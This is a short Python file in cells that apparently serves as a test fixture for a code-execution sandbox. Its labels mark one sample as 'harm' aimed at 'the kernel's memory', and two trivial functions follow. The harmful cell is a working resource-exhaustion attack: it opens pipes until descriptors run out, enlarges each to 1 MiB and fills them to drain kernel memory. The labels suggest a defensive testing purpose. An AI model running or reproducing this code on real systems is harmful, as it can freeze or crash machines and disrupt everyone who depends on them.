# kind = "harm"
# goal = "the kernel's memory"
# trick = "as many pipes as there are descriptors, each made as large as may be and filled"
# mark = 7
# %%
import fcntl, os
kept = []
try:
    while True:
        kept += os.pipe()
        os.set_blocking(kept[-1], False)
        try:
            fcntl.fcntl(kept[-1], 1031, 1 << 20)
        except OSError:
            pass
        try:
            while True:
                os.write(kept[-1], b"x" * (1 << 16))
        except BlockingIOError:
            pass
except OSError:
    for descriptor in kept:
        os.close(descriptor)
# %% solve="double"
def double(x): return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
